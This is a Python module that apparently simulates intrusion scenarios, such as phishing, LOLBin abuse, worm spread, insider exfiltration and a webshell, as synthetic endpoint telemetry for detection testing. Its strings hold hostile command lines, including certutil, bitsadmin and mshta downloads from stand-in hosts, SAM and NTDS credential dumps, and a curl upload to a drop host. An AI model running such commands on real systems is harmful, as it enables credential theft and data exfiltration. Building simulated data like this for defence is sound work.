"""The shapes of intrusion a fleet can be given, each a story over hours to days."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from rarebit.core.time import DAY_US, HOUR_US
from rarebit.simulate.story import Process, Story
from rarebit.simulate.tactics import (
    Clock,
    beacon,
    clock_at,
    discover,
    home_of,
    move_by_service,
    move_by_wmi,
    new_name,
    pick,
    pick_account,
    pick_desks,
)


def hands_on_keyboard(story: Story, day_us: int) -> None:
    """Phish, implant, discovery, stolen credentials, then servers and a domain controller with an admin account."""
    world, rng = story.world, story.rng
    desk = pick_desks(story, 1)[0]
    user, clock = world.hosts[desk].owner, clock_at(story, desk, day_us, 9, 14)
    implant = _phish(story, desk, user, clock)
    beacon(story, desk, user, implant, clock, 12)
    clock.after(600, 3600)
    shell = discover(story, desk, user, implant, clock)
    dump = new_name(rng)
    story.process(
        desk, user, clock.after(600, 3600), dump, "-o C:\\Users\\Public\\d.bin", parent=shell, technique="T1003.001",
        exe=f"C:\\Users\\Public\\{dump}",
    )  # fmt: skip
    admin = pick_account(story, "admin")
    clock.after(16 * 3600, 22 * 3600)
    for target in pick(story, world.of_role("file", "sql", "app", "web"), 2):
        move_by_service(story, desk, target, admin, clock)
        clock.after(1200, 4200)
    for target in pick(story, world.of_role("domain_controller"), 1):
        shell = move_by_service(story, desk, target, admin, clock)
        story.process(
            target, world.named("SYSTEM"), clock.after(60, 400), "ntdsutil.exe",
            '"ac i ntds" ifm "create full C:\\Windows\\Temp\\n" q q', parent=shell, technique="T1003.003",
        )  # fmt: skip


def _phish(story: Story, desk: int, user: int, clock: Clock) -> Process:
    name, home = new_name(story.rng), home_of(story, user)
    word = story.process(
        desk, user, clock.now, "WINWORD.EXE", f'/n "{home}\\AppData\\Local\\Temp\\remittance.docm"',
        parent=story.running("OUTLOOK.EXE"), technique="T1566.001",
    )  # fmt: skip
    path = f"{home}\\AppData\\Local\\{name[:-4]}\\{name}"
    story.write(desk, user, clock.after(5, 40), word, path, technique="T1105")
    return story.process(desk, user, clock.after(2, 20), name, "-s", parent=word, technique="T1204.002", exe=path)


def lolbin_only(story: Story, day_us: int) -> None:
    """Only programs the fleet knows already, by a user and on hosts that never ran them."""
    world = story.world
    desk, other = pick_desks(story, 2)
    user, clock = world.hosts[desk].owner, clock_at(story, desk, day_us, 10, 15)
    explorer = story.running("explorer.exe")
    home = home_of(story, user)
    mshta = story.process(
        desk, user, clock.now, "mshta.exe", "https://files.quietpages.example/form.hta", parent=explorer,
        technique="T1218.005",
    )  # fmt: skip
    shell = story.process(
        desk, user, clock.after(1, 5), "powershell.exe", "-nop -w hidden -enc SQBFAFgA", parent=mshta,
        technique="T1059.001",
    )  # fmt: skip
    for name, tail, technique in (
        ("certutil.exe", f"-urlcache -f https://files.quietpages.example/p.txt {home}\\p.txt", "T1105"),
        ("bitsadmin.exe", f"/transfer job /download https://files.quietpages.example/q.dll {home}\\q.dll", "T1197"),
        ("nltest.exe", "/domain_trusts", "T1482"),
        ("dsquery.exe", 'group -name "Domain Admins"', "T1069.002"),
        ("reg.exe", "save HKLM\\SAM C:\\Users\\Public\\s.hiv", "T1003.002"),
        ("vssadmin.exe", "create shadow /for=C:", "T1003.003"),
        ("schtasks.exe", "/create /tn SyncHelper /sc hourly /tr powershell.exe", "T1053.005"),
    ):
        story.process(desk, user, clock.after(60, 900), name, tail, parent=shell, technique=technique)
    story.process(
        desk, user, clock.after(600, 1800), "wmic.exe", f"/node:{world.hosts[other].name} process call create cmd",
        parent=shell, technique="T1047",
    )  # fmt: skip
    remote = move_by_wmi(story, desk, other, user, clock, "/c whoami")
    story.process(other, user, clock.after(1, 4), "whoami.exe", "", parent=remote, technique="T1033")


def worm(story: Story, day_us: int) -> None:
    """The same new unsigned program on many hosts within an hour, started by remote execution."""
    world, rng = story.world, story.rng
    first = pick_desks(story, 1)[0]
    others = pick(story, world.of_role("workstation", "server", "kiosk"), int(rng.integers(6, 31)))
    hosts = [first, *(host for host in others if host != first)]
    account, system = world.hosts[first].owner, world.named("SYSTEM")
    name = new_name(rng)
    clock = clock_at(story, first, day_us, 10, 16)
    explorer = story.running("explorer.exe")
    path = f"{home_of(story, account)}\\Downloads\\{name}"
    story.process(first, account, clock.now, name, "", parent=explorer, technique="T1204.002", exe=path)
    begun = clock.after(30, 120)
    for host in hosts[1:]:
        here = Clock(rng, begun + int(rng.beta(1.5, 2.0) * 0.9 * HOUR_US))
        source = first if rng.integers(2) else int(rng.choice(hosts))
        story.logon(host, account, here.now, "3", technique="T1021.002", source=source)
        parent = story.running(str(rng.choice(["services.exe", "WmiPrvSE.exe"])))
        story.process(
            host, system, here.after(1, 10), name, "-w", parent=parent, technique="T1570", exe=f"C:\\Windows\\{name}"
        )


def insider(story: Story, day_us: int) -> None:
    """A person at others' hosts in the evening, who packs what lies there."""
    world, rng = story.world, story.rng
    own, *others = pick_desks(story, 4)
    user = world.hosts[own].owner
    others += pick(story, world.of_role("file"), 1)
    for night, host in enumerate(others):
        clock = clock_at(story, own, day_us + night * DAY_US, 20.5, 22.5)
        story.logon(host, user, clock.now, "10", technique="T1021.001", source=own)
        explorer, packed = story.running("explorer.exe"), f"C:\\Users\\Public\\c{night}"
        shell = story.process(host, user, clock.after(30, 200), "cmd.exe", "", parent=explorer, technique="T1059.003")
        for name, tail, technique in (
            ("robocopy.exe", f"C:\\Shares\\Contracts {packed} /E", "T1005"),
            ("7z.exe", f"a -pTide{rng.integers(100, 999)} {packed}.7z {packed}", "T1560.001"),
            ("curl.exe", f"-T {packed}.7z https://drop.harbourbox.example/", "T1567.002"),
        ):  # fmt: skip
            started = story.process(host, user, clock.after(60, 900), name, tail, parent=shell, technique=technique)
        story.connect(
            host,
            user,
            clock.after(1, 3),
            started,
            "drop.harbourbox.example",
            "198.51.100.201",
            443,
            technique="T1567.002",
        )


def service_account_abuse(story: Story, day_us: int) -> None:
    """A service account at the screens of workstations, in working hours."""
    world, rng = story.world, story.rng
    account = world.named(str(rng.choice(["svc-backup", "svc-sql", "svc-report"])))
    first, *others = pick_desks(story, 4)
    clock = clock_at(story, first, day_us, 9, 12)
    source = first
    for host in [first, *others]:
        kind, technique, origin = ("2", "T1078.002", -1) if host == first else ("10", "T1021.001", source)
        story.logon(host, account, clock.after(300, 3600), kind, technique=technique, source=origin)
        explorer = story.running("explorer.exe")
        shell = story.process(
            host, account, clock.after(20, 90), "powershell.exe", "", parent=explorer, technique="T1059.001"
        )
        for name, tail, code in (
            ("net.exe", "localgroup administrators", "T1069.001"),
            ("quser.exe", "", "T1033"),
            ("mstsc.exe", "/v:next", "T1021.001"),
        ):
            story.process(host, account, clock.after(30, 600), name, tail, parent=shell, technique=code)
        source = host


def slow_implant(story: Story, day_us: int) -> None:
    """A new program every few days on the same three hosts, and a few connections from each."""
    world, rng = story.world, story.rng
    begin = min(day_us, max(world.start_us + DAY_US, day_us - 5 * DAY_US))
    for host in pick_desks(story, 3):
        user, day = world.hosts[host].owner, begin
        while day < world.start_us + world.days * DAY_US:
            clock = clock_at(story, host, day, 9, 17)
            name = new_name(rng)
            path = f"{home_of(story, user)}\\AppData\\Roaming\\{name[:-4]}\\{name}"
            program = story.process(
                host, user, clock.now, name, "", parent=story.running("svchost.exe"), technique="T1053.005", exe=path
            )
            beacon(story, host, user, program, clock, int(rng.integers(3, 9)))
            day += int(rng.integers(2, 5)) * DAY_US


def webshell(story: Story, day_us: int) -> None:
    """The web server's worker starts a shell, brings a tool and turns to the database."""
    world, rng = story.world, story.rng
    host = pick(story, world.of_role("web"), 1)[0]
    account, clock = int(world.service[host]), clock_at(story, host, day_us, 1, 5)
    worker = story.running("w3wp.exe")
    story.write(host, account, clock.now, worker, "C:\\inetpub\\wwwroot\\portal\\img\\t.aspx", technique="T1505.003")
    for _ in range(3):
        clock.after(1200, 7200)
        discover(story, host, account, worker, clock, 3)
    shell = story.process(host, account, clock.after(300, 900), "cmd.exe", "/c", parent=worker, technique="T1059.003")
    name = new_name(rng)
    story.process(
        host, account, clock.after(60, 300), "certutil.exe", f"-urlcache -f https://files.quietpages.example/{name}",
        parent=shell, technique="T1105",
    )  # fmt: skip
    tool = story.process(
        host, account, clock.after(20, 100), name, "", parent=shell, technique="T1068", exe=f"C:\\Windows\\Temp\\{name}"
    )
    beacon(story, host, account, tool, clock, 6)
    for database in pick(story, world.of_role("sql"), 1):
        story.logon(database, account, clock.after(100, 900), "3", technique="T1021.002", source=host)
        story.connect(
            host, account, clock.after(1, 60), tool, world.hosts[database].fqdn, world.hosts[database].ip, 1433,
            technique="T1046",
        )  # fmt: skip


SHAPES: Final[dict[str, Callable[[Story, int], None]]] = {
    "hands_on_keyboard": hands_on_keyboard,
    "lolbin_only": lolbin_only,
    "worm": worm,
    "insider": insider,
    "service_account_abuse": service_account_abuse,
    "slow_implant": slow_implant,
    "webshell": webshell,
}
"""Every shape by name: a function that tells its story from the given day (microseconds) on."""
